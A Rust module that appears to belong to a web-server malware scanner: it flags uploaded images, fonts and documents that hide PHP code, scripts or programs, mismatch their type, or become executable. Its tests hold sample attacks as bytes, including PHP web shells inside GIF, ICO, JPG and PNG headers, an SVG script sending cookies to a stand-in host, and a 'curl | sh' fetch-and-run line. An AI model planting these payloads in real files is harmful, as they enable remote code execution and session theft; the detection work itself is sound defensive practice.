//! Media-like files: images, icons, fonts, archives, documents, audio and video, and
//! files without an extension in a content folder. Such content is passive: in a busy
//! upload folder it matters only when it holds code, is not what its name says, or was
//! made executable. Types are told by their magic bytes with the `infer` crate (the
//! field's table of signatures, kept up to date there rather than by hand here).

use infer::MatcherType;

use super::{in_content_dir, Extensions, Sample};
use crate::fs::Attrs;
use crate::policy::Severity;

/// Extensions of passive content, which must never hold code.
#[rustfmt::skip]
const MEDIA_EXTS: &[&str] = &[
    // images and icons
    "jpg", "jpeg", "jpe", "png", "gif", "ico", "cur", "bmp", "webp", "avif", "heic", "heif",
    "tif", "tiff", "svg", "psd",
    // fonts
    "woff", "woff2", "ttf", "otf", "eot",
    // archives
    "zip", "gz", "tgz", "tar", "bz2", "xz", "7z", "rar",
    // documents
    "pdf", "doc", "docx", "xls", "xlsx", "ppt", "pptx", "odt", "ods", "odp", "rtf", "epub",
    "txt", "css", "csv", "md",
    // audio and video
    "mp3", "m4a", "ogg", "oga", "opus", "wav", "flac", "mp4", "m4v", "mov", "webm", "ogv",
    "avi", "wmv", "mkv",
];

/// Text documents: outside content folders they are documentation, which quotes code.
const TEXT_EXTS: &[&str] = &["txt", "css", "csv", "md"];

/// What the content of a media extension must be, by `infer`'s type names.
struct Expected {
    exts: &'static [&'static str],
    what: &'static str,
    types: &'static [&'static str],
    /// Every real file starts with one of `types`' magic bytes, so content that is not
    /// recognised is a mismatch too. The others (fonts of several flavours, MPEG audio
    /// without a tag, old tar, a PDF after junk) mismatch only when the content is
    /// recognised as something else.
    strict: bool,
}

const ZIP_BASED: &[&str] = &[
    "zip", "docx", "xlsx", "pptx", "odt", "ods", "odp", "epub", "jar",
];
const OLE: &[&str] = &["doc", "xls", "ppt", "msi"];
const AUDIO_VIDEO: &[&str] = &[
    "mp3", "m4a", "ogg", "opus", "wav", "flac", "aac", "mp4", "m4v", "mov", "webm", "mkv", "avi",
    "wmv", "mpg", "flv",
];

const EXPECTED: &[Expected] = &[
    Expected {
        exts: &["jpg", "jpeg", "jpe"],
        what: "a JPEG image",
        types: &["jpg"],
        strict: true,
    },
    Expected {
        exts: &["png"],
        what: "a PNG image",
        types: &["png"],
        strict: true,
    },
    Expected {
        exts: &["gif"],
        what: "a GIF image",
        types: &["gif"],
        strict: true,
    },
    Expected {
        exts: &["webp"],
        what: "a WebP image",
        types: &["webp"],
        strict: true,
    },
    Expected {
        exts: &["bmp"],
        what: "a BMP image",
        types: &["bmp"],
        strict: true,
    },
    // Browsers take a PNG as a favicon, and many sites serve one so.
    Expected {
        exts: &["ico"],
        what: "an icon",
        types: &["ico", "png"],
        strict: true,
    },
    Expected {
        exts: &["tif", "tiff"],
        what: "a TIFF image",
        types: &["tif", "cr2"],
        strict: true,
    },
    Expected {
        exts: &["avif", "heic", "heif"],
        what: "an AVIF or HEIF image",
        types: &["avif", "heif"],
        strict: false,
    },
    Expected {
        exts: &["woff", "woff2", "ttf", "otf", "eot"],
        what: "a font",
        types: &["woff", "woff2", "ttf", "otf", "eot"],
        strict: false,
    },
    Expected {
        exts: &["pdf"],
        what: "a PDF document",
        types: &["pdf"],
        strict: false,
    },
    Expected {
        exts: ZIP_BASED,
        what: "a ZIP archive",
        types: ZIP_BASED,
        strict: false,
    },
    Expected {
        exts: &["doc", "xls", "ppt"],
        what: "an Office document",
        types: OLE,
        strict: false,
    },
    Expected {
        exts: &["gz", "tgz"],
        what: "a gzip archive",
        types: &["gz"],
        strict: true,
    },
    Expected {
        exts: &["tar"],
        what: "a tar archive",
        types: &["tar"],
        strict: false,
    },
    Expected {
        exts: AUDIO_VIDEO,
        what: "audio or video",
        types: AUDIO_VIDEO,
        strict: false,
    },
];

/// `infer`'s names of native programs (besides `exe` and `dll`, checked further).
const PROGRAMS: &[&str] = &["elf", "mach"];

/// The media checks of one new or modified file (`rel` below its watch root). Outside
/// content folders only what was always alarming is judged (code in a media file, an
/// image that is not one), so a system tree's sloppy modes and odd archives say nothing.
pub(super) fn assess(
    name: &str,
    rel: &[u8],
    ext: &Extensions,
    old: Option<&Attrs>,
    new: &Attrs,
    sample: Option<&Sample>,
    add: &mut impl FnMut(String, Severity),
) {
    let in_content = in_content_dir(rel);
    let what = match ext.last() {
        Some(last) if TEXT_EXTS.contains(&last) && !in_content => return,
        Some(last) if MEDIA_EXTS.contains(&last) => format!("a .{last} file"),
        None if !name.starts_with('.') && in_content => "a file without an extension".into(),
        None if !name.starts_with('.') => {
            if let Some(sample) = sample {
                php_program_without_extension(sample, add);
            }
            return;
        }
        _ => return,
    };
    if in_content && new.mode & 0o111 != 0 && old.is_none_or(|o| o.mode & 0o111 == 0) {
        add("made executable".into(), Severity::High);
    }
    let Some(sample) = sample else {
        return;
    };
    let content = [sample.head, sample.tail];
    if content.iter().any(|c| contains_ignore_case(c, b"<?php")) {
        add(format!("PHP code in {what}"), Severity::Critical);
    } else if content.iter().any(|c| short_tag_code(c)) {
        add(
            format!("PHP short tag with code in {what}"),
            Severity::Critical,
        );
    }
    let detected = infer::get(sample.head);
    let program = detected.filter(|t| match t.extension() {
        // `infer` takes any `MZ` for a Windows program; a real one has a PE header.
        "exe" | "dll" => has_pe_header(sample.head),
        other => PROGRAMS.contains(&other),
    });
    if let Some(program) = program {
        add(
            format!("{} program in {what}", program.extension().to_uppercase()),
            Severity::Critical,
        );
    }
    if sample.head.starts_with(b"#!") {
        add(format!("script (#!) in {what}"), Severity::High);
    }
    if looks_like_markup(sample.head) && content.iter().any(|c| contains_ignore_case(c, b"<script"))
    {
        add(format!("<script> in {what}"), Severity::High);
    }
    let expected = ext
        .last()
        .and_then(|last| EXPECTED.iter().find(|e| e.exts.contains(&last)));
    if let Some(expected) = expected.filter(|e| e.strict || in_content) {
        let found = detected.map(|t| t.extension());
        let matches = found.is_some_and(|f| expected.types.contains(&f));
        // Text is what `infer` finds in a file it does not know (an HTML page, a shell
        // script): for a lenient type that is no evidence either way, code aside.
        let unknown = detected.is_none_or(|t| t.matcher_type() == MatcherType::Text);
        match found {
            _ if matches => {}
            None if expected.strict => add(
                format!("content is not {}", expected.what),
                Severity::Medium,
            ),
            Some(found) if expected.strict || !unknown => add(
                format!("content is not {} (it is {found})", expected.what),
                Severity::Medium,
            ),
            _ => {}
        }
    }
}

/// A file without an extension outside content folders: a PHP program only when it
/// starts as one (a `README` or `LICENSE` may quote code).
fn php_program_without_extension(sample: &Sample, add: &mut impl FnMut(String, Severity)) {
    let start = sample.head.trim_ascii_start();
    if start.len() >= 5 && start[..5].eq_ignore_ascii_case(b"<?php")
        || start.starts_with(b"#!/usr/bin/php")
        || start.starts_with(b"#!/usr/bin/env php")
    {
        add(
            "PHP code in a file without an extension".into(),
            Severity::High,
        );
    }
}

/// Does `bytes` hold `needle` (which starts with `<`), in any case? `<` is searched
/// with memchr: it is rare in binary data, and the tag is compared only there.
fn contains_ignore_case(bytes: &[u8], needle: &[u8]) -> bool {
    memchr::memchr_iter(needle[0], bytes).any(|at| {
        bytes
            .get(at..at + needle.len())
            .is_some_and(|found| found.eq_ignore_ascii_case(needle))
    })
}

/// The longest statement a short tag is judged on.
const SHORT_TAG_SPAN: usize = 256;

/// `<?=` or `<? ` followed by code: a run of printable text that ends the statement
/// (`;` or `?>`) and uses a variable, a call or backticks. Three bytes such as `<?=`
/// turn up in binary data by chance; text that also reads as PHP does not.
fn short_tag_code(bytes: &[u8]) -> bool {
    memchr::memmem::find_iter(bytes, b"<?").any(|at| {
        let rest = &bytes[at + 2..];
        let Some((&opener, rest)) = rest.split_first() else {
            return false;
        };
        if opener != b'=' && !opener.is_ascii_whitespace() {
            return false;
        }
        let rest = rest.trim_ascii_start();
        let text_len = rest
            .iter()
            .take(SHORT_TAG_SPAN)
            .take_while(|b| b.is_ascii_graphic() || **b == b' ' || **b == b'\t')
            .count();
        let text = &rest[..text_len];
        let end = text
            .iter()
            .position(|b| *b == b';')
            .into_iter()
            .chain(memchr::memmem::find(text, b"?>"))
            .min();
        let Some(end) = end else {
            return false;
        };
        let statement = &text[..end];
        statement
            .first()
            .is_some_and(|b| b.is_ascii_alphabetic() || b"@$_(`".contains(b))
            && statement.iter().any(|b| b"$(`".contains(b))
    })
}

/// The `PE\0\0` signature where the MZ header's `e_lfanew` points.
fn has_pe_header(head: &[u8]) -> bool {
    let Some(offset) = head.get(0x3c..0x40) else {
        return false;
    };
    let offset = u32::from_le_bytes([offset[0], offset[1], offset[2], offset[3]]) as usize;
    head.get(offset..offset.saturating_add(4)) == Some(b"PE\0\0")
}

/// Text that starts as markup (SVG, HTML), where a `<script>` runs in a browser.
fn looks_like_markup(head: &[u8]) -> bool {
    let start = head
        .strip_prefix(b"\xef\xbb\xbf")
        .unwrap_or(head)
        .trim_ascii_start();
    start.starts_with(b"<") && !start[..start.len().min(1024)].contains(&0)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reasons(rel: &str, old_mode: Option<u32>, mode: u32, content: &[u8]) -> Vec<String> {
        let name = rel.rsplit('/').next().unwrap();
        let sample = Sample::of_whole(content);
        let old = old_mode.map(Attrs::plain_file);
        let mut out = Vec::new();
        assess(
            name,
            rel.as_bytes(),
            &Extensions::of(name),
            old.as_ref(),
            &Attrs::plain_file(mode),
            (!content.is_empty()).then_some(&sample),
            &mut |text, _| out.push(text),
        );
        out
    }

    fn upload(name: &str, content: &[u8]) -> Vec<String> {
        reasons(
            &format!("wp-content/uploads/2026/12/{name}"),
            None,
            0o644,
            content,
        )
    }

    /// Real files of each type, as their programs write them.
    fn real_files() -> Vec<(&'static str, Vec<u8>)> {
        let mut jpeg = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 16];
        jpeg.extend_from_slice(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
        // Entropy-coded data is arbitrary bytes: it holds `<?=` by chance.
        jpeg.extend_from_slice(b"\xff\xdb\x00\x43\x00<?=\x9c\x01\x02<? \x88\xa0");
        jpeg.extend_from_slice(b"\xff\xd9");
        let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0".to_vec();
        png.extend_from_slice(b"\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\x0f\x04\0\x09\xfb\x03\xfd");
        let svg = b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
                    width=\"1\" height=\"1\"><rect width=\"1\" height=\"1\"/></svg>\n"
            .to_vec();
        vec![
            ("photo.jpg", jpeg),
            ("logo.png", png),
            ("spinner.gif", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;".to_vec()),
            ("banner.webp", b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0/\0\0\0\x10\x07\x10\x11\x11\x88\x88\xfe\x07\0".to_vec()),
            ("favicon.ico", b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0\x68\x04\0\0\x16\0\0\0".to_vec()),
            ("favicon_png.ico", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec()),
            ("icon.svg", svg),
            ("report.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n".to_vec()),
            ("export.zip", b"PK\x03\x04\x14\0\0\0\x08\0\0\0!\0readme.txt".to_vec()),
            ("font.woff", b"wOFF\0\x01\0\0\0\0\x01\0\0\x0b\0\0".to_vec()),
            // A CFF-flavoured WOFF, which `infer` does not know: lenient, so silent.
            ("font-cff.woff", b"wOFFOTTO\0\0\x01\0\0\x0b\0\0".to_vec()),
            ("notes.txt", b"Meeting notes: bring <? and ;".to_vec()),
        ]
    }

    #[test]
    fn real_media_is_silent() {
        for (name, content) in real_files() {
            assert_eq!(upload(name, &content), Vec::<String>::new(), "{name}");
        }
        assert!(upload("IMG_0001", b"\xff\xd8\xff\xe0\0\x10JFIF").is_empty());
    }

    #[test]
    fn code_inside_media() {
        assert_eq!(
            upload("avatar.gif", b"GIF89a<?php system($_GET[1]);"),
            ["PHP code in a .gif file"]
        );
        assert_eq!(
            upload("favicon_a1.ico", b"\0\0\x01\0\x01\0<?PHP eval($_POST[1]);"),
            ["PHP code in a .ico file"]
        );
        assert_eq!(
            upload("thumb.jpg", b"\xff\xd8\xff\xe0<?=`$_GET[1]`?>"),
            ["PHP short tag with code in a .jpg file"]
        );
        assert_eq!(
            upload("x.png", b"\x89PNG\r\n\x1a\n<? system($_GET['c']); ?>"),
            ["PHP short tag with code in a .png file"]
        );
        assert_eq!(
            upload("cache_b12", b"\0\0<?php @eval($_COOKIE[a]);"),
            ["PHP code in a file without an extension"]
        );
        assert_eq!(
            upload("drawing.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><SCRIPT>fetch('//x/'+document.cookie)</SCRIPT></svg>"),
            ["<script> in a .svg file"]
        );
        assert_eq!(
            upload("run", b"#!/bin/sh\ncurl x | sh\n"),
            ["script (#!) in a file without an extension"]
        );
    }

    #[test]
    fn type_mismatch() {
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
        assert_eq!(
            upload("photo.jpg", png),
            ["content is not a JPEG image (it is png)"]
        );
        let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
        elf.resize(64, 0);
        assert_eq!(
            upload("photo.jpg", &elf),
            [
                "ELF program in a .jpg file",
                "content is not a JPEG image (it is elf)"
            ]
        );
        assert_eq!(upload("logo.png", b"hello"), ["content is not a PNG image"]);
        let mut pe = b"MZ\x90\0".to_vec();
        pe.resize(0x80, 0);
        pe[0x3c] = 0x40;
        pe[0x40..0x44].copy_from_slice(b"PE\0\0");
        assert_eq!(
            upload("setup", &pe),
            ["EXE program in a file without an extension"]
        );
        assert!(upload("notes", b"MZ is a postcode in my notes, 2026").is_empty());
        assert_eq!(
            upload("font.woff2", png),
            ["content is not a font (it is png)"]
        );
        // Lenient types are judged only in content folders, strict ones everywhere.
        assert!(reasons("assets/font.woff2", None, 0o644, png).is_empty());
        assert_eq!(
            reasons("assets/photo.jpg", None, 0o644, png),
            ["content is not a JPEG image (it is png)"]
        );
    }

    #[test]
    fn made_executable() {
        let jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF";
        let rel = "wp-content/uploads/2026/12/photo.jpg";
        assert_eq!(reasons(rel, Some(0o644), 0o755, jpeg), ["made executable"]);
        assert_eq!(reasons(rel, None, 0o744, jpeg), ["made executable"]);
        assert!(reasons(rel, Some(0o755), 0o755, jpeg).is_empty());
        assert!(reasons("usr/share/doc/x.png", Some(0o644), 0o755, b"\x89PNG").is_empty());
    }

    #[test]
    fn files_without_extension_outside_content_folders() {
        assert_eq!(
            reasons("README", None, 0o644, b"  <?php system('id');"),
            ["PHP code in a file without an extension"]
        );
        assert!(reasons("LICENSE", None, 0o644, b"use <?php in examples").is_empty());
        assert!(reasons("bin/ls", None, 0o755, b"\x7fELF\x02\x01\x01").is_empty());
        assert!(reasons("doc/faq.rst.txt", None, 0o644, b"write <?php echo 1; ?>").is_empty());
        assert_eq!(
            upload("notes.txt", b"<?php echo 1; ?>"),
            ["PHP code in a .txt file"]
        );
    }

    #[test]
    fn short_tags_need_code() {
        assert!(short_tag_code(b"<?= $title ?>"));
        assert!(short_tag_code(b"<?=system($_GET[1])?>"));
        assert!(!short_tag_code(b"<?xml version=\"1.0\"?>"));
        assert!(!short_tag_code(b"<?= \x01\x02$;"));
        assert!(!short_tag_code(b"<? and ;"));
        assert!(!short_tag_code(b"<?="));
    }
}
